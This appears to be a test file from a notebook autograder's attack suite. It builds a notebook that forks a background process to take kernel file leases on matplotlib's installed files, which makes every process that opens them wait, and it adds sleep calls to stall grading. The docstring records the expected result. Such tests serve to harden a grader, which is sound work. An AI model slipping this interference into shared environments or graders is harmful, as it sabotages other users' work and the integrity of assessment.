"""A lease on a file of the packages makes everybody who opens it wait, for 45 seconds.

That works where they belong to the user who grades: an ordinary user.

graded: 30
note: no lease
"""

from __future__ import annotations

from pathlib import Path

from nbformat import NotebookNode

from tests.attacks.tools import insert, save

SOURCE = """
import fcntl
import glob
import os
import signal
import sys
import time

packages = glob.glob(sys.prefix + "/lib/python*/site-packages/")[0]
names = glob.glob(packages + "matplotlib/animation.py")
names += glob.glob(packages + "matplotlib/__pycache__/animation*.pyc")
if os.fork() == 0:
    signal.signal(signal.SIGIO, signal.SIG_IGN)
    taken = []
    for name in names:
        descriptor = os.open(name, os.O_RDONLY)
        for command in (fcntl.F_SETLEASE, fcntl.F_NOTIFY, 1040):
            try:
                fcntl.fcntl(descriptor, command, fcntl.F_WRLCK)
                taken.append(descriptor)
            except OSError:
                pass
    with open("taken.part", "w") as file:
        file.write(str(len(taken) or "no lease"))
    os.rename("taken.part", "taken")
    while True:
        time.sleep(1)
while not os.path.exists("taken"):
    time.sleep(0.1)
print(open("taken").read(), flush=True)
time.sleep(25)
"""


def make(folder: Path, release: NotebookNode, right: NotebookNode) -> None:
    insert(right, SOURCE, before="zero_pad")
    insert(right, "import time; time.sleep(25)", before="zero_pad")
    save(folder, right)
